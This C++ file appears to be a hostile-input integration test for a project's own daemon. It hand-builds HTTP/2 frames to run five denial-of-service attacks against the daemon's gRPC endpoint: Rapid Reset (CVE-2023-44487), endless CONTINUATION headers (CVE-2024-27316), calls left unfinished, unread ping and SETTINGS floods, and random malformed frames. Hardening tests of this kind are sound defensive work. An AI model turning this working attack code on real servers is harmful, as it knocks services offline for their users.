// Attacks by frames (RFC 9113), written by hand: those that a client library would never send.
#include <poll.h>
#include <sys/socket.h>

#include <cerrno>
#include <string>

#include "daemon/control/rpc/http2_frame.h"
#include "tests/integration/hostile/attack.h"

namespace arcomm::support {
namespace {

std::string frame(Http2Frame type, std::uint8_t flags, std::uint32_t stream,
                  const std::string& payload) {
  std::string made;
  append_http2_frame(made, type, payload, flags, stream);
  return made;
}

// Literal, never indexed, not compressed (RFC 7541, 6.2.3).
std::string header(const std::string& name, const std::string& value) {
  return std::string(1, '\x10') + static_cast<char>(name.size()) + name +
         static_cast<char>(value.size()) + value;
}

std::string attach_headers() {
  return header(":method", "POST") + header(":scheme", "http") +
         header(":path", "/arcommd.v1.NodeControl/Attach") + header(":authority", "localhost") +
         header("te", "trailers") + header("content-type", "application/grpc");
}

// A connection that has said its preface and SETTINGS.
class Http2 {
 public:
  explicit Http2(Attacker& attacker) : attacker_(attacker), fd_(attacker.connect_stream()) {
    send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(Http2Frame::Settings, 0, 0, ""));
  }
  bool open() const { return static_cast<bool>(fd_); }
  UniqueFd take() { return std::move(fd_); }
  // Goes on until all of it is sent, the daemon has closed or the attack's time is up.
  void send(const std::string& bytes) {
    for (std::size_t at = 0; fd_ && at < bytes.size() && attacker_.goes_on();) {
      const ssize_t sent = ::send(fd_.get(), bytes.data() + at, bytes.size() - at, MSG_NOSIGNAL);
      if (sent > 0) at += static_cast<std::size_t>(sent);
      if (sent < 0 && errno != EAGAIN) fd_.reset();
      if (sent < 0 && fd_) {
        pollfd waiting{fd_.get(), POLLOUT, 0};
        ::poll(&waiting, 1, 20);
      }
    }
  }
  void read() {
    char bytes[16'384];
    ssize_t got = 1;
    while (fd_ && got > 0) got = ::recv(fd_.get(), bytes, sizeof(bytes), MSG_DONTWAIT);
    if (fd_ && (got == 0 || (got < 0 && errno != EAGAIN))) fd_.reset();
  }
  std::uint32_t next_stream() { return stream_ += 2; }

 private:
  Attacker& attacker_;
  UniqueFd fd_;
  std::uint32_t stream_ = static_cast<std::uint32_t>(-1);
};

// CVE-2023-44487: calls that are cancelled as soon as they are made.
std::uint64_t rapid_resets(Attacker& attacker) {
  std::uint64_t made = 0;
  while (attacker.goes_on()) {
    Http2 connection(attacker);
    if (!connection.open()) break;
    for (; connection.open() && attacker.goes_on(); made += 64) {
      std::string frames;
      for (int i = 0; i < 64; ++i) {
        const std::uint32_t stream = connection.next_stream();
        frames += frame(Http2Frame::Headers, kHttp2EndHeaders, stream, attach_headers()) +
                  frame(Http2Frame::ResetStream, 0, stream, std::string("\0\0\0\x08", 4));
      }
      connection.send(frames);
      connection.read();
    }
  }
  return made;
}

// Calls without end: their message never comes, or never ends.
std::uint64_t open_calls(Attacker& attacker) {
  std::uint64_t made = 0;
  Http2 connection(attacker);
  for (; connection.open() && attacker.goes_on(); ++made) {
    const std::uint32_t stream = connection.next_stream();
    connection.send(frame(Http2Frame::Headers, kHttp2EndHeaders, stream, attach_headers()));
    if (made % 2 == 0)
      connection.send(frame(Http2Frame::Data, 0, stream, std::string("\0\0\0\x10\0", 5) + "part"));
    connection.read();
  }
  attacker.hold(connection.take());
  return made;
}

// Pings and SETTINGS want answers, which nobody reads.
std::uint64_t unread_answers(Attacker& attacker) {
  std::uint64_t sent = 0;
  const std::string pings = [] {
    std::string frames;
    for (int i = 0; i < 100; ++i) {
      frames += frame(Http2Frame::Ping, 0, 0, "8 bytes.");
      frames += frame(Http2Frame::Settings, 0, 0, "");
    }
    return frames;
  }();
  Http2 connection(attacker);
  for (; connection.open() && attacker.goes_on(); sent += 200) connection.send(pings);
  attacker.hold(connection.take());
  return sent;
}

// CVE-2024-27316 and its kin: a header block that goes on in one frame after the other.
std::uint64_t endless_headers(Attacker& attacker) {
  std::uint64_t sent = 0;
  while (attacker.goes_on()) {
    Http2 connection(attacker);
    if (!connection.open()) break;
    const std::uint32_t stream = connection.next_stream();
    connection.send(frame(Http2Frame::Headers, 0, stream, attach_headers()));
    for (; connection.open() && attacker.goes_on(); ++sent) {
      connection.send(frame(Http2Frame::Continuation, 0, stream,
                            header("x-" + std::to_string(sent), std::string(100, 'x'))));
      connection.read();
    }
  }
  return sent;
}

// Any frame of any length, some of them cut off.
std::uint64_t random_frames(Attacker& attacker) {
  std::uint64_t sent = 0;
  while (attacker.goes_on()) {
    Http2 connection(attacker);
    if (!connection.open()) break;
    for (; connection.open() && attacker.goes_on(); ++sent) {
      std::string bytes = frame(static_cast<Http2Frame>(attacker.below(12)),
                                static_cast<std::uint8_t>(attacker.random()()),
                                static_cast<std::uint32_t>(attacker.below(8)),
                                attacker.random_bytes(attacker.below(64)));
      if (attacker.below(10) == 0) bytes.resize(attacker.below(bytes.size()));
      if (attacker.below(50) == 0) bytes[0] = '\x7f';
      connection.send(bytes);
      connection.read();
    }
    if (attacker.below(8) == 0) attacker.hold(connection.take());
  }
  return sent;
}

}  // namespace

std::span<const Attack> http2_attacks() {
  static constexpr Attack kAttacks[] = {{"HTTP/2: calls reset at once", rapid_resets},
                                        {"HTTP/2: calls without end", open_calls},
                                        {"HTTP/2: answers not read", unread_answers},
                                        {"HTTP/2: endless headers", endless_headers},
                                        {"HTTP/2: random frames", random_frames}};
  return kAttacks;
}

}  // namespace arcomm::support
